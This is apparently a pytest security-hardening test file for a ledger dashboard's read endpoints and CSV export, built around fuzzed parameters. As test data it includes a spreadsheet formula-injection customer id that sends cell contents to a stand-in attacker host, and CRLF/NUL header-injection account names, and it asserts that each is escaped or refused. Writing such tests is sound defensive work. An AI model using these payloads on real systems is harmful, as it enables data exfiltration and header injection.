"""What an authenticated reader sends cannot break the read side: no period, month, range or
account parameter gets a 5xx or a header that would drop the connection, and a CSV export
opens in a spreadsheet without running anything."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from urllib.parse import unquote

import httpx
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy.ext.asyncio import AsyncEngine

from dashboard.csv_export import attachment
from ledger.envelope import Source, parse_event
from ledger.event_log import EventLog
from projections.runner import ProjectionRunner
from simulator.stripe_account import LAYOUTS, Item, StripeAccount
from tests.conftest import make_settings
from tests.support.app_client import app_client
from tests.support.databases import TestDatabase
from tests.support.processes import environment, server_process
from tests.support.signing import encode

TOKEN = "dash_" + "H4rd3n1ngT0k3nV4lu3"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
# A customer id and a price nickname a spreadsheet would run as formulas.
FORMULA_CUSTOMER = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
MONTH, CHURNED = "2024-03", "2024-04"


@pytest.fixture
async def hostile(engine: AsyncEngine) -> AsyncEngine:
    """One customer whose id is a formula, subscribing at 12.50 in March, gone in April."""
    acct = StripeAccount(LAYOUTS[0], namespace="H")
    acct.price("price_A", amount="12.50", nickname="-2+3")
    start, end = datetime(2024, 3, 2, tzinfo=UTC), datetime(2024, 4, 20, tzinfo=UTC)
    customer = acct.customer(FORMULA_CUSTOMER, at=start)
    sub = acct.subscribe("sub_formula", customer, [Item("price_A")], at=start)
    acct.bill(sub, at=start, billing_reason="subscription_create")
    acct.cancel(sub, at=end)
    events = [parse_event(encode(e), account="default", source=Source.WEBHOOK) for e in acct.events]
    await EventLog(engine).append(events)
    await ProjectionRunner(engine).catch_up("default")
    return engine


@pytest.fixture
async def client(database: TestDatabase, hostile: AsyncEngine) -> AsyncIterator[httpx.AsyncClient]:
    async with app_client(make_settings(database, LEDGER_DASHBOARD_TOKEN=TOKEN)) as client:
        yield client


def assert_sendable(response: httpx.Response) -> None:
    """Every header is one line of printable ASCII: what uvicorn can send without dropping
    the connection (h11 refuses CR, LF and NUL in a header value)."""
    for name, value in response.headers.raw:
        assert re.fullmatch(rb"[\x20-\x7e]*", value), (name, value)


def assert_refused_with_a_reason(response: httpx.Response) -> None:
    assert 400 <= response.status_code < 500, response.text
    reason = response.text.strip()
    if response.headers["content-type"].startswith("text/html"):
        shown = re.search(r"<p role=alert>(.*?)</p>", reason, flags=re.DOTALL)
        assert shown is not None, reason
        reason = shown.group(1)
    assert reason and len(reason.splitlines()) == 1, reason
    assert "Traceback" not in reason


@pytest.mark.parametrize(
    "path",
    [
        "/?to=0001-05",
        "/?from=9999-12&to=9999-12",
        "/?month=9999-12",
        "/api/v1/metrics?period=9999-12",
        "/api/v1/movements?period=9999",
        "/dashboard.csv?table=mrr&account=中",
        "/api/v1/metrics?period=0000",
        "/api/v1/metrics?from=9999-12-01&to=9999-12-31&by_month=1",
        "/api/v1/metrics?as_of=0001-01-01T00:00:00%2B01:00",
        "/api/v1/metrics?from=1970-01-01&to=2070-01-01&by_month=1",
    ],
)
async def test_a_request_beyond_the_calendar_answers_4xx_with_a_reason(
    client: httpx.AsyncClient, path: str
) -> None:
    response = await client.get(path, headers=AUTH)
    assert_refused_with_a_reason(response)
    assert_sendable(response)


MONTHS = st.builds(
    lambda year, month: f"{year:04d}-{month:02d}", st.integers(0, 9999), st.integers(0, 13)
)
PERIODS = st.one_of(
    MONTHS,
    st.integers(0, 9999).map(lambda year: f"{year:04d}"),
    st.builds(lambda year, q: f"{year:04d}-Q{q}", st.integers(0, 9999), st.integers(0, 5)),
    st.sampled_from(["last-day", "last-week", "last-month", "last-quarter", "last-year"]),
)
OFFSETS = st.sampled_from([UTC, timezone(timedelta(hours=14)), timezone(timedelta(hours=-12))])
INSTANTS = st.one_of(
    st.dates().map(str),
    st.datetimes(timezones=OFFSETS).map(datetime.isoformat),
)
VALUES = st.one_of(PERIODS, INSTANTS, st.text(max_size=30), st.sampled_from(["1", "true", ""]))
ACCOUNTS = st.one_of(
    st.just("default"),
    st.from_regex(r"[a-z0-9_-]{1,70}", fullmatch=True),
    st.text(max_size=70),
    st.sampled_from(['a.bat"; x=', "a\r\nSet-Cookie: x=1", "a\x00b", "中"]),
)
PARAMETERS = st.fixed_dictionaries(
    {},
    optional={
        "period": VALUES,
        "month": VALUES,
        "from": VALUES,
        "to": VALUES,
        "as_of": VALUES,
        "frozen_at": VALUES,
        "by_month": VALUES,
        "as_reported": VALUES,
        "account": ACCOUNTS,
        "table": st.sampled_from(["mrr", "movements", "revenue", "month_movements", "x"]),
    },
)
READ_PATHS = ("/", "/api/v1/metrics", "/api/v1/movements", "/dashboard.csv")


@settings(
    max_examples=200,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(path=st.sampled_from(READ_PATHS), params=PARAMETERS)
@example(path="/", params={"to": "1970-05"})
@example(path="/", params={"from": "9998-12", "to": "9998-12", "month": "9998-12"})
@example(path="/api/v1/metrics", params={"as_of": "9999-01-01"})
@example(path="/api/v1/metrics", params={"period": "9998", "by_month": "1"})
@example(path="/dashboard.csv", params={"table": "month_movements", "month": "9998-12"})
async def test_no_period_month_range_or_account_parameter_gets_a_5xx(
    client: httpx.AsyncClient, path: str, params: dict[str, str]
) -> None:
    response = await client.get(path, params=params, headers=AUTH)
    assert response.status_code < 500, response.text
    assert_sendable(response)
    if response.status_code >= 400:
        assert_refused_with_a_reason(response)


@pytest.mark.parametrize("account", ['a.bat"; x=', "a\r\nSet-Cookie: x=1", "a\x00b", "中"])
async def test_a_hostile_account_name_is_refused_before_a_download_header_is_built(
    client: httpx.AsyncClient, account: str
) -> None:
    response = await client.get(
        "/dashboard.csv", params={"table": "mrr", "account": account}, headers=AUTH
    )
    assert_refused_with_a_reason(response)
    assert "content-disposition" not in response.headers


def test_the_served_download_answers_a_hostile_account_instead_of_dropping_the_connection(
    database: TestDatabase, tmp_path: Path
) -> None:
    """Over a real socket, where a CR, LF or NUL in a header made uvicorn drop it."""
    env = environment(database, LEDGER_DASHBOARD_TOKEN=TOKEN, LEDGER_LOG_LEVEL="warning")
    with server_process(env, tmp_path) as server:
        for account in ("a\r\nb", "a\x00b", 'a.bat"; x='):
            response = httpx.get(
                f"{server.base}/dashboard.csv",
                params={"table": "mrr", "account": account},
                headers=AUTH,
                timeout=30,
            )
            assert_refused_with_a_reason(response)


@pytest.mark.parametrize("name", ['a.bat"; x=-mrr.csv', "a\r\nb\x00.csv", "中-mrr.csv"])
def test_a_download_header_names_the_file_in_two_forms_neither_adding_a_parameter(
    name: str,
) -> None:
    header = attachment(name)
    assert re.fullmatch(r"[\x20-\x7e]*", header)
    parameters = [part.strip().split("=", 1)[0] for part in header.split(";")]
    assert parameters == ["attachment", "filename", "filename*"]
    plain = re.fullmatch(r'attachment; filename="([A-Za-z0-9._-]+)"; filename\*=(\S+)', header)
    assert plain is not None
    assert unquote(plain.group(2).removeprefix("UTF-8''")) == name


async def download(client: httpx.AsyncClient, **params: str) -> list[dict[str, str]]:
    response = await client.get("/dashboard.csv", params=params, headers=AUTH)
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_escaped(
    client: httpx.AsyncClient,
) -> None:
    for month in (MONTH, CHURNED):
        rows = await download(client, table="month_movements", month=month)
        assert rows and {row["customer_id"] for row in rows} == {"'" + FORMULA_CUSTOMER}


async def test_a_negative_amount_in_a_csv_stays_a_number(client: httpx.AsyncClient) -> None:
    [row] = await download(client, table="movements", **{"from": CHURNED, "to": CHURNED})
    assert (row["churn"], row["net_new_mrr"]) == ("12.50", "-12.50")


async def test_a_count_of_zero_in_a_csv_is_written_as_0(client: httpx.AsyncClient) -> None:
    [row] = await download(client, table="customers", **{"from": CHURNED, "to": CHURNED})
    assert (row["active_customers"], row["new_customers"]) == ("0", "0")
